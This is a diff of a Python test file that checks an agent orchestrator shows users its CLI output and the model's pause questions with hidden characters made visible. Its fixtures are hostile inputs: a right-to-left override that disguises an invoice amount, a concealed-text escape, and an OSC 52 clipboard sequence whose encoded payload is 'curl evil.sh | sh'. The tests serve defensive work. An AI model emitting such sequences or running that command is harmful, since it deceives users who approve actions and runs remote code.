@@ -17,6 +17,7 @@ import pytest
 
 from orchestrator.core.visible import elide, visible, visible_json
 from tests.conftest import answer, tool_call
+from tests.test_missions import workspace  # noqa: F401 - a fixture: a mission's workspace
 
 RLO = "\u202e"
 CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # OSC 52: "put `curl evil.sh | sh` on the clipboard"
@@ -167,3 +168,22 @@ def test_every_line_the_cli_prints_goes_through_say():
                 if not node.args or not own_text(node.args[0]):
                     bad.append(f"{path.name}:{node.lineno}")
     assert bad == [], f"print through cli.say (or make the text visible first): {bad}"
+
+
+def test_a_jorbs_pause_and_a_missions_question_are_shown_as_they_are(jarvis_env, workspace):
+    """Both are the model's words, written maybe after a counterpart's reply; the user approves on what they say."""
+    from tests.test_jorbs import step
+    from tests.test_missions import _svc, sheratan
+
+    srv = jarvis_env.server
+    srv.push(step(reasoning="ask", pause=True, pause_reason=f"Pay the invoice {RLO}00.01$ to Bob?"))
+    jorb = _svc(jarvis_env).create("Pay", "Pay the invoice when the user says so")
+    assert jorb.row.status == "paused" and jorb.row.pause_reason == "Pay the invoice \\u202e00.01$ to Bob?"
+    (pause,) = [p for p in jorb.pending if p["type"] == "jorb_pause"]
+    assert pause["reason"] == jorb.row.pause_reason
+
+    srv.push(sheratan(action="create_followup_jobs", new_jobs=[], ask=f"Delete the backups?{CONCEAL} (safe)"))
+    mission = _svc(jarvis_env).create("Tidy", "Tidy the workspace", mode="mission", options={"workspace": str(workspace)})
+    assert mission.row.pause_reason == "Delete the backups?\\x1b[8m (safe)"
+    (ask,) = [p for p in mission.pending if p["type"] == "jorb_pause"]
+    assert ask["reason"] == mission.row.pause_reason
